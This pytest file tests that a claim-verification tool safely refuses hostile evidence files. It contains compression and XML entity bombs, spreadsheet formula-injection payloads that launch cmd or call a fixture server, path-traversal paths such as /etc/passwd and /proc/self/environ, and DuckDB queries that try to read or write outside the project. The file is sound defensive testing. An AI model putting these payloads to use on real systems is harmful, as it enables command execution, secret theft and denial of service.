"""Files that somebody made to mislead, to hang or to swell what reads them.

Each is tried with the whole command, in a process whose time and memory are bounded and
measured: an error says what is wrong, and nothing outside the project is read.
"""

import gzip
import json
import os
import socket
import subprocess
import sys
import zipfile

import pytest
from tests.tables.making import workbook
from tests.tables.test_locked import server  # noqa: F401 - a fixture

pytest.importorskip("duckdb", reason="the readers of evidence are not installed")

#: Each is a whole run, and a bomb is left to burst: together they take half a minute.
pytestmark = pytest.mark.journey

#: Megabytes: what a child of ours may take for a table, and a little for itself.
MOST = 2_300

RECORD = """\
+++
id = "five-rows"
text = "It has 5 rows."
[value]
claimed = "5 rows"
is = "at least"
formula = "a"
figures = {{a = "file.a"}}
[[evidence]]
name = "file"
path = {path}
kind = "record"
{more}
+++
"""
COUNT = 'query = "select count(*) as a from evidence"'
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"

#: Tells what a command says, and the most memory that it or a child of it took.
MEASURED = """
import json, resource, subprocess, sys
done = subprocess.run(sys.argv[1:], capture_output=True, text=True, timeout=200)
used = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024
print(json.dumps([done.returncode, done.stdout, done.stderr, used]))
"""


@pytest.fixture
def verify(tmp_path):
    """Verify a claim on a file of some content; return its verdict, why, and memory."""
    for name in ("claims", "evidence"):
        (tmp_path / name).mkdir()
    (tmp_path / "holdwater.toml").write_text("")
    (tmp_path / "page.md").write_text("# Page\n\nIt has 5 rows.\n")

    def verifying(name, content=None, *, path=None, more=COUNT):
        written = json.dumps(path or f"../evidence/{name}")
        record = RECORD.format(path=written, more=more)
        (tmp_path / "claims" / "five-rows.md").write_text(record)
        if content is not None:
            (tmp_path / "evidence" / name).write_bytes(content)
        command = [sys.executable, "-m", "holdwater", "verify", "page.md"]
        told = subprocess.run(
            [sys.executable, "-c", MEASURED, *command, "--format", "json"],
            cwd=tmp_path,
            capture_output=True,
            text=True,
            check=True,
            timeout=220,
        )
        code, out, error, used = json.loads(told.stdout)
        assert used < MOST
        assert "Traceback" not in error
        (claim,) = json.loads(out)["claims"]
        assert (code, claim["measured"]) != (0, None)
        return claim["verdict"], claim["reason"], used

    return verifying


def unchecked(told, said):
    verdict, reason, _ = told
    assert verdict == "unchecked"
    assert said in reason


# -- files that swell ---------------------------------------------------------------


@pytest.mark.parametrize(
    "select",
    [
        "select 1::bigint as a from range(200000000)",
        "select repeat('a', 100000) as a from range(20000)",
    ],
)
def test_it_does_not_swell_with_a_table_of_few_bytes(verify, tmp_path, select):
    import duckdb

    path = tmp_path / "evidence" / "x.parquet"
    connection = duckdb.connect(config={"threads": 1})
    form = "(format parquet, compression zstd, row_group_size 10000000)"
    connection.execute(f"copy ({select}) to '{path}' {form}")
    assert path.stat().st_size < 10_000
    unchecked(verify("x.parquet"), "memory to read")


def _workbook(sheet, **more):
    parts = {
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{MAIN}">{sheet}</worksheet>'
    }
    return workbook(["a"], [1], more={**parts, **more}.items())


def test_it_does_not_swell_with_one_long_text_in_every_cell(verify):
    row = '<row><c t="s"><v>0</v></c></row>'
    text = "A" * 20_000_000
    related = "".join(
        f'<Relationship Id="r{n}" Type="{OFFICE}/{of}" Target="{target}"/>'
        for n, (of, target) in enumerate(
            [
                ("worksheet", "worksheets/sheet1.xml"),
                ("sharedStrings", "sharedStrings.xml"),
            ],
            1,
        )
    )
    content = _workbook(
        f"<sheetData>{row * 500}</sheetData>",
        **{
            "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}"><si><t>{text}</t></si></sst>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}">{related}'
            "</Relationships>",
        },
    )
    assert len(content) < 30_000
    verdict, _, _ = verify("x.xlsx", content)
    assert verdict == "unchecked"


def test_it_does_not_fill_the_room_between_two_corners(verify):
    cells = (
        '<row r="1"><c r="A1"><v>1</v></c></row>'
        '<row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
    )
    verdict, _, used = verify("x.xlsx", _workbook(f"<sheetData>{cells}</sheetData>"))
    assert (verdict, used < 500) == ("unchecked", True)


def test_it_does_not_laugh_a_billion_times(verify):
    names = "bcdefghijk"
    entities = "".join(
        f'<!ENTITY {one} "{f"&{before};" * 20}">'
        for before, one in zip("abcdefghij", names, strict=True)
    )
    content = workbook(
        more={
            "xl/worksheets/sheet1.xml": '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaaaaaaaa">'
            f'{entities}]><worksheet xmlns="{MAIN}"><sheetData><row><c t="inlineStr">'
            "<is><t>&k;</t></is></c></row></sheetData></worksheet>"
        }.items()
    )
    verdict, _, used = verify("x.xlsx", content)
    assert (verdict, used < 500) == ("unchecked", True)


@pytest.mark.parametrize(
    "name, content, more, said",
    [
        ("x.json", b"[" + b"0," * 2_500_000 + b"0]", "", "more than 2,000,000 values"),
        ("x.json", b'["' + b"a" * 20_000_000 + b'"]', "", "larger than 20,000,000"),
        ("x.md", b"word " * 4_100_000, 'query = "took 4 ms"', "larger than 20,000,000"),
        (
            "x.csv",
            b"a,b\n" + b"1" * 5_000_000,
            COUNT,
            "line 2 is longer than 2,000,000",
        ),
        ("x.csv", b'a,b\n"' + b"1\n" * 1_500_000, COUNT, "line 2 is not closed"),
        (
            "x.json",
            b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
            COUNT,
            "recursion depth",
        ),
        ("x.csv", gzip.compress(b"a\n1\n", mtime=0), COUNT, "line 1 is not utf-8"),
        ("x.csv.gz", gzip.compress(b"a\n1\n", mtime=0), COUNT, "no reader for .gz"),
        ("x.zip", b"PK\x03\x04", COUNT, "no reader for .zip"),
    ],
)
def test_it_says_what_is_too_much_or_no_table(verify, name, content, more, said):
    told = verify(name, content, more=more)
    unchecked(told, said)
    assert told[2] < 600


def test_it_reads_no_archive_within_a_table(verify, tmp_path):
    """A CSV in a ZIP is a ZIP; of an archive of archives nothing is unpacked."""
    inner = tmp_path / "inner.zip"
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("x.csv", b"a\n" + b"1\n" * 1_000_000)
    with zipfile.ZipFile(tmp_path / "evidence" / "x.csv", "w") as archive:
        archive.write(inner, "x.csv")
    unchecked(verify("x.csv"), "cannot be read as csv")


# -- formulas -----------------------------------------------------------------------


def test_it_takes_a_formula_for_the_words_it_is(verify, server, tmp_path):  # noqa: F811
    """A spreadsheet would ask the server, or start a program, when it opens these."""
    address, heard = server
    written = tmp_path / "written"
    formulas = (
        f'=WEBSERVICE("http://{address}/pin")',
        f"=cmd|' /C echo 1 > {written}'!A0",
        f'=HYPERLINK("http://{address}/pin","here")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        f'+IMPORTXML("http://{address}/pin","//a")',
    )
    lines = "".join(f'"{one.replace(chr(34), chr(34) * 2)}"\n' for one in formulas)
    asked = (
        "query = '''select count(*) filter (where a[1] in ('=', '@', '+')) as a "
        "from evidence'''"
    )
    verdict, reason, _ = verify("x.csv", f"a\n{lines}".encode(), more=asked)
    assert (verdict, "says 5 rows" in reason) == ("holds", True)
    cells = "".join(
        f'<row><c t="str"><f>{one[1:].replace("&", "&amp;").replace("<", "&lt;")}</f>'
        "<v>kept</v></c></row>"
        for one in formulas
    )
    head = '<row><c t="inlineStr"><is><t>a</t></is></c></row>'
    kept = "query = \"select count(*) filter (where a = 'kept') as a from evidence\""
    content = _workbook(f"<sheetData>{head}{cells}</sheetData>")
    verdict, reason, _ = verify("x.xlsx", content, more=kept)
    assert (verdict, "says 5 rows" in reason) == ("holds", True)
    assert (heard, written.exists()) == ([], False)


# -- what is no file, and what lies elsewhere --------------------------------------------


def test_it_waits_for_no_pipe_and_reads_no_device(verify, tmp_path):
    folder = tmp_path / "evidence"
    os.mkfifo(folder / "pipe.csv")
    unchecked(verify("pipe.csv"), "no regular file")
    with socket.socket(socket.AF_UNIX) as one:
        one.bind(str(folder / "s.csv"))
        unchecked(verify("s.csv"), "cannot be read")
    (folder / "zero.csv").symlink_to("/dev/zero")
    unchecked(verify("zero.csv"), "leads out of the project's folder")
    if os.getuid() == 0:
        try:
            os.mknod(folder / "own.csv", 0o20666, os.makedev(1, 5))
        except OSError:
            return  # not even the first user of a container may
        unchecked(verify("own.csv"), "no regular file")


@pytest.mark.parametrize("name", ["pipe.md", "pipe.toml"])
def test_it_waits_for_no_record_that_is_a_pipe(verify, tmp_path, name):
    os.mkfifo(tmp_path / "claims" / name)
    assert verify("x.csv", b"a\n1\n1\n1\n1\n1\n")[0] == "holds"
    done = subprocess.run(
        [sys.executable, "-m", "holdwater", "verify", "page.md"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=False,
        timeout=100,
    )
    assert done.returncode == 2
    assert f"claims/{name}: cannot be read: it is no regular file" in done.stderr


@pytest.mark.parametrize(
    "path, said",
    [
        ("{outside}", "no path relative to the record"),
        ("/etc/passwd", "no path relative to the record"),
        ("/proc/self/environ", "no path relative to the record"),
        ("../../secret.csv", "leads out"),
        ("../evidence/../../secret.csv", "leads out"),
        ("../evidence/link.csv", "leads out"),
        ("../evidence/folder/secret.csv", "leads out"),
        ("../evidence/loop.csv", None),
        ("../evidence/\u0000.csv", None),
    ],
)
def test_it_reads_nothing_outside_of_the_project(verify, tmp_path, path, said):
    outside = tmp_path.parent / "secret.csv"
    outside.write_text("pin\n4711\n4711\n4711\n4711\n4711\n")
    folder = tmp_path / "evidence"
    (folder / "link.csv").symlink_to(outside)
    (folder / "folder").symlink_to(tmp_path.parent)
    (folder / "loop.csv").symlink_to("loop.csv")
    verdict, reason, _ = verify("x", path=path.format(outside=outside))
    assert verdict in ("unchecked", "orphaned")
    assert said is None or said in reason
    assert "4711" not in reason


@pytest.mark.parametrize(
    "query",
    [
        "select pin as a from read_csv('{outside}')",
        "select pin as a from '../secret.csv'",
        "attach '{outside}' as other",
        "install httpfs",
        "load '{outside}'",
        "copy evidence to 'written.csv'",
    ],
)
def test_it_asks_a_table_nothing_but_what_is_in_it(verify, tmp_path, query):
    outside = tmp_path.parent / "secret.csv"
    outside.write_text("pin\n4711\n")
    asked = f'query = "{query.format(outside=outside)}"'
    before = sorted(tmp_path.rglob("*"))
    verdict, reason, _ = verify("x.csv", b"a\n1\n", more=asked)
    assert verdict == "unchecked"
    assert "4711" not in reason
    new = {one.name for one in tmp_path.rglob("*")} - {one.name for one in before}
    assert new == {"five-rows.md", "x.csv"}
